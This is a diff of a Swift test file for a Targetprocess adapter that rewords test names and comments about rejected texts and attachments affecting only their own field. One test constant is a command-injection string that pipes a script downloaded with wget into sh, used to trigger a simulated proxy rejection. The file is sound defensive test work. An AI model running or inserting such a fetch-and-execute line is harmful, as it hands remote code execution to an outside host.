@@ -7,8 +7,7 @@ import Testing
 
 @testable import TargetprocessAdapter
 
-/// A text that something in front of Targetprocess, or Targetprocess itself, does not let through costs no more than
-/// itself.
+/// A text that Targetprocess or a proxy in front of it rejects affects only its own field.
 struct FailureScopeTests {
     private static let attack = "; wget http://198.51.100.7/x.sh | sh"
     private static let forms = [
@@ -18,7 +17,7 @@ struct FailureScopeTests {
     private static let story = RunningSimulator.story(1002)
 
     @Test(arguments: forms)
-    func `a firewall or a fault that concerns one text costs no other`(form: String) async throws {
+    func `a firewall or fault that affects one text affects no other`(form: String) async throws {
         try await withSimulator { simulator in
             try await simulator.fault(
                 #"{"kind": "foreign", "form": "\#(form)", "method": "POST", "contains": ["wget http"]}"#)
@@ -50,7 +49,7 @@ struct FailureScopeTests {
     }
 
     @Test(arguments: ["nginx413", "iis404", "cloudfront", "internalTargetprocess"])
-    func `a file that is rejected costs no other file and no field`(form: String) async throws {
+    func `a rejected attachment affects no other attachment and no field`(form: String) async throws {
         try await withSimulator { simulator in
             try await simulator.fault(
                 #"{"kind": "foreign", "form": "\#(form)", "path": "UploadFile", "largest": 5000}"#)
@@ -79,7 +78,7 @@ struct FailureScopeTests {
         }
     }
 
-    @Test func `a tool that is away is blamed on no value`() async throws {
+    @Test func `an unavailable tool does not cause the rejection of a value`() async throws {
         try await withSimulator { simulator in
             try await simulator.fault(#"{"kind": "foreign", "form": "badGateway"}"#)
             let failure = await #expect(throws: ToolError.self) {
